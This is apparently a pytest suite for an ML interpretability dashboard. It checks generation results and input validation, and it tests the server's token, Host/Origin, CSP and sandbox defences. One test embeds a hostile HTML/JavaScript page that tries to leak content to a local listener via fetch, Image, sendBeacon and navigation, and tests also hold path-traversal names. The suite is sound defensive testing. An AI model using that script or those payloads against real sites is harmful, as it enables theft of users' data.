"""The playground against `generate` and plain forward passes; the app in a real headless Chromium."""

import contextlib
import http.client
import json
import os
import socket
import threading
import time
from dataclasses import replace
from urllib.parse import urlsplit

import pytest
import torch

from spd_lens.analysis.common.subject import Subject
from spd_lens.analysis.dashboard import playground as module
from spd_lens.analysis.dashboard.playground import Ask, Playground
from spd_lens.examples import Example
from spd_lens.generation.generate import generate
from spd_lens.subspaces.projection import folded
from tests.helpers import assert_same_bits, refused

from .conftest import HOSTILE, new_watch

PROMPT = "Tom has 12 apples."
ASK = Ask(
    PROMPT, layers=[1, 3], kinds=["k", "v"], rank=3, strength=0.5, max_new_tokens=10, seed=7, also=["random", "spd"]
)


@pytest.fixture(scope="module")
def subject(two_runs, tiny_pair):
    return Subject(two_runs[0], pair=tiny_pair)


@pytest.fixture(scope="module")
def playground(subject):
    return Playground(subject)


@pytest.mark.parametrize("temperature", [0.0, 1.0])
def test_it_says_what_generate_says(playground, tiny_pair, state_of, temperature):
    before = state_of(tiny_pair.hf)
    answer = playground.answer(replace(ASK, temperature=temperature))
    subspace = playground.moments.subspace(3)
    options = {"max_new_tokens": 10, "temperature": temperature, "seed": 7, "progress": False}
    prompt = [Example(PROMPT, id="dashboard")]
    expected = {
        "base": generate(tiny_pair, prompt, **options),
        "projected": generate(tiny_pair, prompt, subspace=subspace, strength=0.5, **options),
        "random": generate(tiny_pair, prompt, subspace=subspace.random_like(7), strength=0.5, **options),
        "spd": generate(tiny_pair, prompt, adapter=playground.subject.run.adapter, **options),
    }
    assert [said.policy for said in answer.said] == list(expected)
    for said in answer.said:
        assert "".join(piece.after for piece in said.pieces) == said.text
    texts = {said.policy: said.text for said in answer.said}
    assert texts["base"] == module.visible(expected["base"][0].completion)
    assert texts == {name: module.visible(corpus[0].completion) for name, corpus in expected.items()}
    assert len({texts["base"], texts["projected"], texts["random"]}) == 3
    assert_same_bits(tiny_pair.hf, before)


def test_next_tokens_are_those_of_a_plain_forward_pass(playground, tiny_pair):
    answer = playground.answer(replace(ASK, also=[], max_new_tokens=1))
    ids = torch.tensor([tiny_pair.prompt_ids(Example(PROMPT))])
    with torch.no_grad():
        base = tiny_pair.hf(ids).logits[0, -1].double().softmax(-1)
        with folded(tiny_pair.hf, playground.moments.subspace(3), 0.5):
            other = tiny_pair.hf(ids).logits[0, -1].double().softmax(-1)
    best = torch.maximum(base, other).topk(10).indices
    assert answer.said[0].probabilities == pytest.approx(base[best].tolist(), abs=1e-6)
    assert answer.said[1].probabilities == pytest.approx(other[best].tolist(), abs=1e-6)
    assert answer.said[1].kl == pytest.approx(float((base * (base / other).log()).sum()), rel=1e-4)
    assert answer.said[0].kl == 0 and answer.said[1].kl > 0
    assert len(answer.tokens) == 10


def test_layers_kinds_heads_and_rank_are_those_chosen(playground):
    chosen = playground.subspace(replace(ASK, layers=[3], kinds=["v"], rank=0.25, per_head=False))
    assert [str(site) for site in chosen.sites] == ["3.v"]
    assert chosen.ranks == {chosen.sites[0]: (4,)} and not chosen.per_head
    assert (playground.width(True), playground.width(False)) == (8, 16)
    assert playground.layers == [1, 3] and playground.kinds == ["k", "v"] and playground.adapter
    full = playground.answer(replace(ASK, rank=8, strength=1.0, also=[]))
    assert full.said[0].text == full.said[1].text  # a projection on everything changes nothing


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"prompt": "  "}, ["prompt is empty"]),
        ({"prompt": "x" * 9000}, ["9000", "8000"]),
        ({"prompt": None}, ["prompt is empty"]),
        ({"layers": []}, ["no layer", "1, 3"]),
        ({"layers": [2]}, ["layer 2", "1, 3"]),
        ({"kinds": ["q"]}, ["'q'", "k, v"]),
        ({"rank": 9}, ["rank 9", "8"]),
        ({"rank": 0}, ["rank is 0"]),
        ({"rank": "<b>"}, ["<b>"]),
        ({"strength": 1.5}, ["strength is 1.5"]),
        ({"strength": float("nan")}, ["strength is nan"]),
        ({"max_new_tokens": 100000}, ["100000", "512"]),
        ({"max_new_tokens": None}, ["max new tokens is empty"]),
        ({"temperature": -1}, ["temperature is -1"]),
        ({"seed": 2**32}, ["seed is 4294967296"]),
        ({"seed": True}, ["seed is True"]),
        ({"also": ["rm"]}, ["'rm'"]),
        ({"max_new_tokens": 300}, ["room"]),
    ],
)
def test_what_is_out_of_range_is_refused_in_one_sentence(playground, change, words):
    with refused(*words):
        playground.answer(replace(ASK, **change))
    assert not playground.lock.locked()


def test_one_question_at_a_time(playground):
    with playground.lock, refused("another completion"):
        playground.answer(ASK)


# --- the app

TOKEN = "nobody-guesses-this"


@pytest.fixture(scope="module")
def lock():
    return threading.Lock()


@pytest.fixture(scope="module")
def app_url(subject, lock):
    live = pytest.importorskip("spd_lens.analysis.dashboard.server", reason="flask is not installed")
    app = live.create_app([subject], TOKEN, lock)
    with live.listen(0) as waiting:
        server = live.start(app, waiting)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.port}/{TOKEN}"
        server.shutdown()
        thread.join(timeout=10)


@pytest.fixture(scope="module")
def opened(chromium, app_url):
    watch = new_watch(chromium)
    watch.page.goto(f"{app_url}/")
    watch.page.wait_for_selector("#go")
    until(watch.page, "document.getElementById('rank-label').textContent.includes('of')")
    yield watch
    watch.page.context.close()


@pytest.fixture
def page(opened, app_url):
    yield opened.page
    # a question that is refused is answered with status 400, which the browser notes
    assert [error for error in opened.errors if "status of 400" not in error] == []
    assert all(url.startswith((app_url, "data:", "blob:")) for url in opened.requests)


def until(page, condition):
    """Playwright's own waiting evaluates strings inside the page, which the app's policy forbids."""
    deadline = time.monotonic() + 60
    while not page.evaluate(condition):
        assert time.monotonic() < deadline, f"{condition} did not come true"
        page.wait_for_timeout(50)


def ask(page, prompt, tokens="10"):
    page.fill("#ask-prompt", prompt)
    page.fill("#ask-tokens", tokens)
    page.keyboard.press("Tab")
    page.click("#go")
    until(page, "document.getElementById('go').textContent === 'Generate'")


def test_a_prompt_produces_text_and_probabilities(page, playground):
    ask(page, PROMPT)
    page.wait_for_selector("#said-projected")
    expected = playground.answer(replace(ASK, rank=4, strength=1.0, seed=42, also=["random"]))
    for said in expected.said:
        assert page.text_content(f"#said-{said.policy}") == said.text
    page.wait_for_selector("#next-tokens .bars")
    bars = page.evaluate("document.querySelector('#next-tokens').data.map(t => [t.name, t.x])")
    assert [name for name, _ in bars] == ["base", "under the projection", "random subspace of the same ranks"]
    assert bars[0][1] == pytest.approx(list(expected.said[0].probabilities), abs=1e-6)
    assert bars[1][1] == pytest.approx(list(expected.said[1].probabilities), abs=1e-6)
    assert page.locator("#answer ins").count() > 0
    assert page.inner_text("#message") == ""


def test_rank_and_projector_reach_the_model(page, playground):
    page.check("#ask-form input >> nth=1")
    until(page, "document.getElementById('ask-rank').max === '16'")
    assert page.input_value("#ask-rank") == "8"
    page.locator("#ask-rank").fill("2")
    page.locator("#ask-strength").fill("0.5")
    until(page, "document.getElementById('rank-label').textContent.startsWith('Rank: 2 of 16')")
    page.uncheck("#ask-also input >> nth=0")
    ask(page, PROMPT)
    until(page, "!document.getElementById('said-random')")
    expected = playground.answer(replace(ASK, rank=2, per_head=False, seed=42, also=[]))
    assert page.text_content("#said-projected") == expected.said[1].text
    assert "ranks 1.k: 2;" in page.inner_text("#answer")
    page.check("#ask-form input >> nth=0")
    page.check("#ask-also input >> nth=0")


def test_hostile_prompts_and_wrong_input_are_answered_in_words(page):
    ask(page, HOSTILE, tokens="5")
    assert page.inner_text("#message") == "" and page.locator("#playground img").count() == 0
    ask(page, "")
    until(page, "document.getElementById('message').textContent.includes('prompt is empty')")
    ask(page, PROMPT, tokens="")
    until(page, "document.getElementById('message').textContent.includes('max new tokens is empty')")


def test_a_second_question_has_to_wait(page, lock):
    with lock:
        ask(page, PROMPT)
        until(page, "document.getElementById('message').textContent.includes('another completion')")
    ask(page, PROMPT)
    until(page, "document.getElementById('message').textContent === ''")


def test_the_views_are_a_tab_in_the_same_colours(page):
    assert page.is_hidden("#all-views")
    page.click("#tab-views")
    assert page.is_hidden("#playground") and page.locator("#readouts .tile").count() > 3
    until(page, "document.querySelector('#plot-energy .main-svg').clientWidth > 300")
    look = "[getComputedStyle(document.body).backgroundColor, document.getElementById('next-tokens').layout.font.color]"
    before = page.evaluate(look)
    page.click("#theme")
    assert not set(before) & set(page.evaluate(look))
    page.click("#theme")
    assert page.evaluate(look) == before
    page.click("#tab-playground")
    assert page.is_visible("#go") and page.is_hidden("#all-views")


@pytest.mark.parametrize("width", [1280, 768])
def test_the_app_fits_the_screen(page, width):
    page.set_viewport_size({"width": width, "height": 900})
    page.wait_for_timeout(300)
    assert page.evaluate("document.scrollingElement.scrollWidth") <= width
    assert len(page.screenshot(full_page=True)) > 20_000


def send(app_url, method, path, body=None, headers=()):
    """Status, headers and text of the answer to a request, whatever it is."""
    connection = http.client.HTTPConnection("127.0.0.1", urlsplit(app_url).port, timeout=20)
    connection.request(method, path, body, dict(headers))
    answer = connection.getresponse()
    text = answer.read().decode()
    connection.close()
    return answer.status, answer.headers, text


JSON = {"Content-Type": "application/json"}
ASKED = {
    "run": "alpha", "prompt": PROMPT, "layers": [1], "kinds": ["k"], "form": "head", "rank": 2, "strength": 1,
    "tokens": 5, "temperature": 0, "seed": 1, "also": [],
}  # fmt: skip


@pytest.mark.parametrize(
    ("headers", "allowed"),
    [
        ({}, True),
        ({"Host": "localhost:PORT"}, True),
        ({"Host": "evil.example"}, False),
        ({"Host": "127.0.0.1.evil.example:PORT"}, False),
        ({"Host": "[::1"}, False),
        ({"Origin": "http://evil.example"}, False),
        ({"Origin": "null"}, False),
        ({"Origin": "http://[::1"}, False),
        ({"Origin": "http://127.0.0.1:PORT"}, True),
    ],
)
def test_only_this_machines_own_pages_are_answered(app_url, headers, allowed):
    sent = {name: value.replace("PORT", str(urlsplit(app_url).port)) for name, value in headers.items()}
    places = {"/": 200, "/analysis/alpha/rank_sweep.html": 200, "/frames/alpha/rank_sweep.html": 200, "/generate": 400}
    for path, status in places.items():
        method, body = ("POST", "{}") if path == "/generate" else ("GET", None)
        found, answered, text = send(app_url, method, f"/{TOKEN}{path}", body, JSON | sent)
        assert found == (status if allowed else 403), path
        framed = "'self'" if path.startswith("/frames") and allowed else "'none'"
        assert answered["Content-Security-Policy"].endswith(f"frame-ancestors {framed}")
        assert allowed or (len(text) < 200 and "Traceback" not in text)


@pytest.mark.parametrize("path", ["/", "/x/", "//", "/analysis/alpha/rank_sweep.html", f"/{TOKEN}x/", "/%ff%fe/", "*"])
def test_who_does_not_know_the_token_learns_nothing(app_url, path):
    status, _, text = send(app_url, "GET", path)
    assert status == 403 and "the address that its terminal shows" in text and TOKEN not in text


def test_the_policy_of_a_page_is_sent_ahead_of_it(app_url):
    _, headers, html = send(app_url, "GET", f"/{TOKEN}/")
    policy = headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; script-src 'sha256-") and "unsafe-eval" not in policy
    assert f'content="{policy.removesuffix("; frame-ancestors " + chr(39) + "none" + chr(39))}"' in html


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"run": "nobody"}, "there is no run"),
        ({"run": ["alpha"]}, "there is no run"),
        ({"run": "x" * 900_000}, "there is no run"),
        ({"prompt": 5}, "prompt is empty"),
        ({"prompt": "half \ud800"}, "half a character"),
        ({"layers": None}, "no layer is chosen"),
        ({"layers": [[1]]}, "layers is [[1]]"),
        ({"layers": [1e400]}, "layers is"),
        ({"layers": {"1": 1}}, "layers is"),
        ({"kinds": ["k", {}]}, "kinds is"),
        ({"rank": "<b>"}, "rank is <b>"),
        ({"rank": "x" * 900_000}, "rank is xxx"),
        ({"rank": float("nan")}, "rank nan"),
        ({"strength": float("inf")}, "strength is inf"),
        ({"tokens": 10.5}, "max new tokens is 10.5"),
        ({"temperature": None}, "temperature is empty"),
        ({"also": 5}, "also is 5"),
        ({"also": [5]}, "unknown policy 5"),
    ],
)
def test_what_a_form_cannot_send_is_refused_in_words_too(app_url, change, words, caplog):
    status, _, text = send(app_url, "POST", f"/{TOKEN}/generate", json.dumps(ASKED | change), JSON)
    assert status == 400 and words in json.loads(text)["error"] and len(text) < 400
    assert not caplog.records


@pytest.mark.parametrize(
    ("kind", "body", "status"),
    [
        ("text/plain", "{}", 400),
        ("application/json", "no json", 400),
        ("application/json", b"\xff\xfe", 400),
        ("application/json", "[" * 200_000, 400),
        ("application/json", '{"rank": ' + "9" * 5000 + "}", 400),
        ("application/json", "7", 400),
        ("application/json", " " * 1_000_001, 413),
    ],
)
def test_only_json_is_a_question(app_url, kind, body, status, caplog):
    found, _, text = send(app_url, "POST", f"/{TOKEN}/generate", body, {"Content-Type": kind})
    assert found == status and len(text) < 200 and "Traceback" not in text
    assert not caplog.records


@pytest.mark.parametrize(
    ("method", "path"), [("GET", "/generate"), ("PUT", "/"), ("GET", "/analysis/"), ("GET", "/../")]
)
def test_what_the_app_does_not_do_is_said_in_a_sentence(app_url, method, path):
    status, headers, text = send(app_url, method, f"/{TOKEN}{path}")
    assert status in (404, 405) and text.startswith("this app does not answer that") and "html" not in text
    assert headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"


def saved(app_url, name, run="alpha", **headers):
    return send(app_url, "GET", f"/{TOKEN}/frames/{run}/{name}", headers={"Sec-Fetch-Dest": "iframe"} | headers)


def test_saved_pages_are_served_by_name_alone(app_url, subject, tmp_path):
    status, headers, text = saved(app_url, "rank_sweep.html")
    assert (status, text) == (200, "<!DOCTYPE html><title>sweep</title>ranks")
    assert headers["Content-Security-Policy"].startswith("sandbox allow-scripts; default-src 'none'; ")
    assert saved(app_url, "rank_sweep.csv")[0] == saved(app_url, "rank_sweep.html", "beta")[0] == 404
    for name in ("..", "..%2fconfig.yaml", "%2e%2e%2fconfig.yaml", "..%2fsummary.md", "%00.html", ".html"):
        assert saved(app_url, name)[0] == 404, name
    (tmp_path / "secret.html").write_text("secret")
    os.mkfifo(subject.folder / "pipe.html")
    (subject.folder / "link.html").symlink_to(tmp_path / "secret.html")
    (subject.folder / "folder.html").mkdir()
    for name in ("link.html", "folder.html", "pipe.html"):
        status, _, text = saved(app_url, name)
        assert status == 404 and "secret" not in text, name
    alone = send(app_url, "GET", f"/{TOKEN}/frames/alpha/rank_sweep.html", headers={"Sec-Fetch-Dest": "document"})
    assert alone[0] == 404 and "in a frame alone" in alone[2]


def test_a_page_is_shown_as_it_was_recorded(app_url, subject):
    page, manifest = subject.folder / "rank_sweep.html", subject.run.path / "manifest.json"
    written, before = page.read_text(), manifest.read_bytes()
    assert b"analysis/" not in before and saved(app_url, page.name)[0] == 200  # a run of an earlier version
    subject.record([page])
    assert saved(app_url, page.name)[0] == 200
    other = subject.folder / "other.html"
    other.write_text("<!DOCTYPE html>")
    page.write_text(f"{written} ")
    for name in (page.name, other.name):
        status, _, text = saved(app_url, name)
        assert status == 404 and "manifest.json" in text, name
    other.unlink()
    page.write_text(written)
    assert saved(app_url, page.name)[0] == 200
    manifest.write_bytes(manifest.read_bytes()[:-9])
    status, _, text = saved(app_url, page.name)
    assert status == 404 and "manifest.json" in text
    manifest.write_bytes(before)


EVIL = """<!DOCTYPE html><title>evil</title><p id=ran>not run</p>
<a href="http://127.0.0.1:PORT/leak">away</a><script>
const leak = "http://127.0.0.1:PORT/leak", local = "/TOKEN/frames/alpha/rank_sweep.html";
const said = [];
const tried = (name, attempt) => { try { attempt(); said.push(name); } catch { } };
fetch(local).then((answer) => answer.text()).then((text) => { new Image().src = leak + text; }).catch(() => 0);
fetch("/TOKEN/generate", {method: "POST", body: "{}"}).then(() => said.push("generate")).catch(() => 0);
new Image().src = leak; navigator.sendBeacon(leak, "x");
tried("parent", () => parent.document.body.innerHTML);
tried("storage", () => localStorage.length);
tried("cookie", () => document.cookie);
tried("window", () => window.open(leak).focus());
tried("top", () => { top.location = leak; });
setTimeout(() => { document.getElementById("ran").textContent = "ran: " + said; LEAVE }, 300);
</script>"""


def received(leak):
    """All bytes that came in. Chromium connects ahead of a navigation that it then refuses, and sends nothing."""
    found = b""
    with contextlib.suppress(TimeoutError):
        while True:
            connection, _ = leak.accept()
            connection.settimeout(0.2)
            with connection, contextlib.suppress(TimeoutError):
                found += connection.recv(1000)
    return found


@pytest.mark.parametrize("leave", ["", "location = leak;", "document.querySelector('a').click();"])
def test_a_strangers_page_runs_without_an_origin_and_sends_nothing(watch, app_url, subject, leave):
    with socket.create_server(("127.0.0.1", 0)) as leak:
        leak.settimeout(0.2)
        page = EVIL.replace("PORT", str(leak.getsockname()[1])).replace("TOKEN", TOKEN).replace("LEAVE", leave)
        (subject.folder / "evil.html").write_text(page, encoding="utf-8")
        watch.page.goto(f"{app_url}/frames/alpha/evil.html")
        assert "in a frame alone" in watch.page.content()
        watch.page.goto(f"{app_url}/analysis/alpha/evil.html")
        if not leave:
            ran = watch.page.frames[1].wait_for_selector("#ran:has-text('ran:')")
            assert ran.inner_text().strip() == "ran:"
        watch.page.wait_for_timeout(1500)
        assert watch.page.url == f"{app_url}/analysis/alpha/evil.html"
        assert received(leak) == b""
    (subject.folder / "evil.html").unlink()


def test_it_listens_to_this_machine_alone_and_names_a_taken_port():
    live = pytest.importorskip("spd_lens.analysis.dashboard.server", reason="flask is not installed")
    with live.listen(0) as waiting:
        address, port = waiting.getsockname()
        assert address == "127.0.0.1"
        with refused(port, "--port"):
            live.listen(port)
